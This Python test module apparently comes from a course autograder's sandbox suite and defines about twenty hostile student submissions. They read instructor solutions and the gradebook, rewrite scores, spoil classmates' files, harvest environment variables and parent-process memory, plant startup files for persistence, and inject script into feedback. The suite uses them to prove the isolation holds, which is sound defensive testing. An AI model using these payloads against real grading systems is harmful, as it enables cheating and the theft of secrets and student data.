"""Submissions that look for what is not theirs, or leave something for the next student. All their answers are right.

What an attack gets goes into LOOT, and the last exercise then fails with "the attack got through". `VICTIM` is an innocent
submission that is graded after all others: it fails when it finds that somebody has been there before.
"""

from __future__ import annotations

import site
import sysconfig
from pathlib import Path

from tests.hostile.maker import Hostile, attack
from tests.hostile.scene import CLASSMATE, SECRET_VARIABLE, Scene


def _spy(name: str, what: str, code: str, *, needs_isolation: bool = True, leaves: object = None) -> Hostile:
    return attack(name, what, first=code, confess=True, needs_isolation=needs_isolation, leaves=leaves if callable(leaves) else None)  # fmt: skip


def _untouched(scene: Scene) -> None:
    assert list(scene.outside.iterdir()) == []
    assert (scene.home / "password.txt").read_text(encoding="utf-8") == f"{scene.canary}-home"
    assert [path.name for path in scene.home.iterdir() if path.name != "password.txt"] == []


def startup_files(marker: str) -> list[Path]:
    """Where a start-up file of this suite would lie if an isolation let it through: the tests remove them."""
    folders = {sysconfig.get_paths()["purelib"], site.getusersitepackages()}
    return [Path(folder) / f"{marker}.pth" for folder in folders]


def _no_startup_files(scene: Scene) -> None:
    assert [path for path in startup_files(scene.marker) if path.exists()] == []
    _untouched(scene)


READ_FILES = """
import os


def read(*parts):
    with open(os.path.join(*parts), "rb") as file:
        look(file.read())

"""

SOLUTIONS = READ_FILES + 'trying(read, ROOT, "solutions", "h1_functions", "h1_functions.ipynb")'

WALK = """
import os

for top in (ROOT, os.path.dirname(ROOT), os.getcwd(), os.path.dirname(os.getcwd())):
    for folder, _, files in os.walk(top):
        for name in files:
            if name.endswith((".ipynb", ".txt", ".db", ".py", ".yml")):
                try:
                    look(open(os.path.join(folder, name), "rb").read(5_000_000))
                except OSError:
                    continue
"""

THROUGH_COURSEKIT = """
from pathlib import Path


def reference():
    from coursekit import manifest, settings, workspace

    where = settings.load()
    look(next(where.solutions_dir.rglob("*.ipynb")).read_text())
    module = manifest.load(where.root).module("h1_functions")
    for path in workspace.extract_reference(where, module).values():
        look(Path(path).read_text())


trying(reference)
"""

GRADEBOOK = READ_FILES + 'trying(read, GRADING, "gradebook.db")\ntrying(read, GRADING, "audit.db")'

OWN_SCORE = """
import os
import sqlite3


def improve():
    path = os.path.join(GRADING, "gradebook.db")
    if os.path.exists(path):
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1) as book:
            book.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
        LOOT.append("wrote the gradebook")


trying(improve)
"""

CLASSMATES = (
    READ_FILES
    + f"""
for name in ("h1_functions.ipynb", "secret.txt"):
    trying(read, GRADING, "submitted", "{CLASSMATE}", "h1_functions", name)
for top in ("submitted", "autograded", "feedback"):
    if os.path.isdir(os.path.join(GRADING, top)):
        LOOT.extend(os.listdir(os.path.join(GRADING, top))[:3])
"""
)

VANDAL = f"""
import os


def spoil():
    path = os.path.join(GRADING, "submitted", "{CLASSMATE}", "h1_functions", "secret.txt")
    if os.path.exists(path):
        with open(path, "a") as file:
            file.write("spoilt")
        LOOT.append("spoilt a classmate's file")


trying(spoil)
"""

ENVIRONMENT = f"""
import os
import subprocess

look(os.environ.get("{SECRET_VARIABLE}", ""))
look(os.environ)
trying(lambda: look(subprocess.run(["env"], capture_output=True, timeout=2).stdout))
trying(lambda: look(open("/proc/self/environ", "rb").read()))
"""

OTHER_PROCESSES = """
import os


def neighbours():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                command = file.read()
            if ROOT.encode() in command or b"bwrap" in command:  # only the processes that grade this course
                look(open(f"/proc/{pid}/environ", "rb").read())
        except OSError:
            continue


trying(neighbours)
"""

HOME_FOLDER = READ_FILES + 'trying(read, HOME, "password.txt")\ntrying(read, os.path.expanduser("~"), "password.txt")'

PARENTS_MEMORY = """
import os
import re


def parents_memory():
    pattern = re.compile(rb"CANAR[Y]-" + MARKER.encode() + rb"-(hidden|solution|environment)")
    with open(f"/proc/{os.getppid()}/maps") as maps, open(f"/proc/{os.getppid()}/mem", "rb") as memory:
        for line in maps:
            ends, rights = line.split()[:2]
            start, end = (int(part, 16) for part in ends.split("-"))
            if rights.startswith("rw") and end - start <= 64_000_000:
                memory.seek(start)
                LOOT.extend(hit.group() for hit in pattern.finditer(memory.read(end - start)))


if os.getppid() > 1:
    trying(parents_memory)
"""

PARENTS_FILES = (
    READ_FILES
    + """
for path in (f"/proc/{os.getppid()}/cwd", f"/proc/{os.getppid()}/root", "/proc/1/root", "/proc/1/cwd"):
    trying(read, path, "solutions", "h1_functions", "h1_functions.ipynb")
    trying(read, path + ROOT, "solutions", "h1_functions", "h1_functions.ipynb")
for number in os.listdir("/proc/self/fd"):
    target = trying(os.readlink, f"/proc/self/fd/{number}") or ""
    if "gradebook" in target or "solutions" in target or "submitted" in target:
        LOOT.append(f"an open descriptor of {target}")
"""
)

NETWORK = """
import socket


def send(family, address):
    with socket.socket(family) as line:
        line.settimeout(1)
        line.connect(address)
        line.sendall(MARKER.encode())
    LOOT.append(f"reached {address!r}")


trying(send, socket.AF_INET, ("127.0.0.1", PORT))
trying(send, socket.AF_INET, ("localhost", PORT))
trying(send, socket.AF_UNIX, chr(0) + MARKER)
"""

NETWORK_IN_CALL = """
def median(values):
    import urllib.request

    try:
        urllib.request.urlopen(f"http://127.0.0.1:{PORT}/{values}", timeout=1)
    except Exception as error:
        if "Remote" in type(error).__name__ or "reset" in str(error):
            LOOT.append(f"reached the outside: {error}")
    if not values:
        raise ValueError("no values")
    ordered = sorted(values)
    half = len(ordered) // 2
    return ordered[half] if len(ordered) % 2 else (ordered[half - 1] + ordered[half]) / 2
"""

STARTUP = """
import os
import site
import sysconfig

NOTE = f"import os; os.environ['BEEN_THERE_{MARKER}'] = '1'"
home = os.path.expanduser("~")
places = {
    os.path.join(sysconfig.get_paths()["purelib"], MARKER + ".pth"): NOTE,
    os.path.join(site.getusersitepackages(), MARKER + ".pth"): NOTE,
    os.path.join(home, ".ipython", "profile_default", "startup", "00.py"): NOTE,
    os.path.join(HOME, ".ipython", "profile_default", "startup", "00.py"): NOTE,
    os.path.join(home, ".config", "matplotlib", "matplotlibrc"): "figure.dpi: 7",
    os.path.join(HOME, "matplotlibrc"): "figure.dpi: 7",
    os.path.join(os.getcwd(), "matplotlibrc"): "figure.dpi: 7",
    os.path.join(os.getcwd(), "coursekit.py"): NOTE,
    os.path.join(os.getcwd(), "json.py"): NOTE,
    os.path.join(OUTSIDE, "usercustomize.py"): NOTE,
}
for path, text in places.items():
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(text)
    except OSError as error:
        print(error)
"""

SHARED_PLACES = """
import os

for folder in ("/tmp", "/var/tmp", "/dev/shm", OUTSIDE):
    try:
        with open(os.path.join(folder, MARKER), "w") as file:
            file.write("I was here")
    except OSError as error:
        print(error)
"""

LINKS = """
import os

targets = [os.path.join(ROOT, "solutions", "h1_functions", "h1_functions.ipynb"), os.path.join(GRADING, "gradebook.db")]
names = ["h1_functions.ipynb", "result.json", "results.json", "output.json", "out", "stdout", "report.json"]
for number, name in enumerate(names):
    for folder in (".", os.path.expanduser("~")):
        path = os.path.join(folder, name)
        try:
            if os.path.lexists(path):
                os.rename(path, path + ".old")
            os.symlink(targets[number % 2], path)
        except OSError as error:
            print(error)
"""

FORGED_FEEDBACK = """
from IPython.display import HTML, Javascript, display

display(HTML("<script>document.title = 'taken over'</script><img src=x onerror='document.title=1'>"))
display(Javascript("document.title = 'taken over'"))
print("</pre><script>document.title = 'taken over'</script>")
raise RuntimeError("</pre><script>document.title = 'taken over'</script>")
"""

LOOK_AROUND = """
import os

for folder in ("/tmp", "/var/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~")):
    if os.path.isdir(folder):
        LOOT.extend(f"{folder}/{name}" for name in os.listdir(folder) if MARKER in name)
LOOT.extend(name for name in os.environ if "BEEN_THERE" in name)
from matplotlib import rcParams, rcParamsDefault

if rcParams["figure.dpi"] == 7:
    LOOT.append("somebody's matplotlibrc")
"""

VICTIM = attack("zz-victim", "an innocent submission, graded last", first=LOOK_AROUND, confess=True)

SUBMISSIONS = [
    _spy("solutions", "opens the instructor's notebook", SOLUTIONS),
    _spy("walk", "walks through every folder of the course", WALK),
    _spy("through-coursekit", "asks coursekit for the reference", THROUGH_COURSEKIT),
    _spy("gradebook", "reads the gradebook", GRADEBOOK),
    _spy("own-score", "writes better scores into the gradebook", OWN_SCORE),
    _spy("classmates", "reads and lists the classmates' work", CLASSMATES),
    _spy("vandal", "writes into a classmate's folder", VANDAL),
    _spy("environment", "looks for the instructor's secret in its environment", ENVIRONMENT, needs_isolation=False),
    _spy("other-processes", "reads the environment of the grader's processes", OTHER_PROCESSES),
    _spy("home", "reads the instructor's HOME", HOME_FOLDER),
    _spy("parents-memory", "searches its parent's memory for hidden tests", PARENTS_MEMORY),
    _spy("parents-files", "goes through its parent's root, folder and descriptors", PARENTS_FILES),
    _spy("network", "connects to TCP and abstract sockets outside", NETWORK),
    attack("network-in-call", "sends what a check calls it with to the outside", confess=True, needs_isolation=True, replaced={"median": NETWORK_IN_CALL}),
    _spy("startup-files", "writes start-up files for whoever is next", STARTUP, leaves=_no_startup_files),
    _spy("shared-places", "leaves files where everybody may write", SHARED_PLACES, leaves=_untouched),
    _spy("links", "puts links to secrets where the grader may look for results", LINKS, needs_isolation=False),
    attack("forged-feedback", "scripts in its output, for whoever opens the feedback", last=FORGED_FEEDBACK),
    VICTIM,
]  # fmt: skip
